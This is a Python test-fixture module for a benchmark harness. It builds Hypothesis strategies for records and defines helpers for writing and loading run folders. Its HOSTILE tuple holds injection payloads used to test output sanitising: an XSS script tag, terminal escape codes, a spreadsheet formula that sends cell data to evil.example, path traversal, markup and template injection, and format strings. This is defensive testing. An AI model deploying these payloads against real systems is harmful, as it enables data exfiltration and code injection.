"""Records to draw, runs to write, and texts that want to be more than text."""

from __future__ import annotations

import json
import math
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

from harness.contract import Case
from harness.loading import Run, load_run
from harness.printable import printable
from harness.records import STATUSES, Record, Sample
from harness.trials import INSTRUMENTS, Trial

FIXTURES = Path(__file__).parents[1] / "fixtures"
HTML = "<script>alert(1)</script><img src=x onerror=alert(1)>"
ESCAPES = "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x9b5m\x00\r\n\u2028\u202etxt.exe\u200b\ufeff\ud800"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"total")'
TRAVERSAL = "../../../outside/\\..\\x"
MARKUP = "[/][red]x[link=http://evil.example]"
HOSTILE = (
    HTML,
    ESCAPES,
    FORMULA,
    TRAVERSAL,
    MARKUP,
    "+1+1",
    "-2+3|cmd",
    "@SUM(A1)",
    "{{ 7*7 }}{% raw %}",
    "$x^2",
    "%s%n",
)

# What no output may hold, whatever was in the files.
FORBIDDEN = (*"\x00\x07\x0b\x1b\x7f\x9b\u2028\u202e\u200b\ufeff", "\r")

finite = st.floats(allow_nan=False, allow_infinity=False)
names = st.text(st.characters(exclude_categories=("C", "Zl", "Zp")), min_size=1, max_size=20).map(printable)
scalars = st.booleans() | st.integers(-(10**9), 10**9) | finite | names
trials = st.builds(
    Trial,
    suite=names,
    implementation=names,
    case=st.dictionaries(names, scalars, max_size=3).map(Case.of),
    device=st.sampled_from(["cpu", "cuda"]),
    dtype=st.sampled_from(["float32", "bfloat16"]),
    threads=st.integers(1, 64),
    instrument=st.sampled_from(INSTRUMENTS),
    round=st.integers(0, 10),
    seed=st.integers(),
)
samples = st.builds(
    Sample,
    block=st.integers(-1, 100),
    iterations=st.integers(1, 10**6),
    values=st.dictionaries(names, st.just(0.0) | st.floats(1e-30, 1e30), max_size=3),
    warmup=st.booleans(),
    flags=st.lists(names, max_size=2).map(tuple),
    readings=st.dictionaries(names, finite, max_size=2),
)
records = st.builds(
    Record,
    trial=trials,
    status=st.sampled_from(STATUSES),
    reason=st.text(max_size=50),
    origin=names,
    samples=st.lists(samples, max_size=3).map(tuple),
    errors=st.dictionaries(names, st.floats(0, math.inf), max_size=2),
    limits=st.dictionaries(names, finite, max_size=2),
    checked=st.dictionaries(names, scalars, max_size=2),
    setup_ns=st.dictionaries(names, st.integers(0, 10**12), max_size=2),
    calibration=st.dictionaries(names, finite, max_size=2),
    flags=st.lists(names, max_size=2).map(tuple),
    stopped=st.sampled_from(["", "precise", "enough", "budget", "trend"]),
    started_at=st.none() | finite,
    elapsed_s=st.none() | finite,
)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=12,
)


def a_record(number: int = 0, **changes: Any) -> Record:
    trial = Trial("suite", "implementation", Case.of({"n": 1}), "cpu", "float32", 1, "time", number, 7)
    return Record(**{"trial": trial, "status": "ok", "samples": (Sample(0, 3, {"call": 12.5}),), **changes})


def line(number: int = 0, **changes: Any) -> str:
    """A good line, with some of its fields replaced."""
    return json.dumps(a_record(number).to_json() | changes)


def write(folder: Path, lines: Iterable[str | bytes], environment: Mapping[str, Any] | None = None) -> Path:
    """A run's folder, byte for byte."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "environment.json").write_text(json.dumps({"format": 1} if environment is None else environment))
    content = [text if isinstance(text, bytes) else text.encode() for text in lines]
    (folder / "records.jsonl").write_bytes(b"".join(text + b"\n" for text in content))
    return folder


def load_lines(folder: Path, lines: Iterable[str | bytes]) -> Run:
    return load_run(write(folder, lines))


def rounds(run: Run) -> list[int]:
    """The records of a run by what tells them apart."""
    return [record.trial.round for record in run.records]
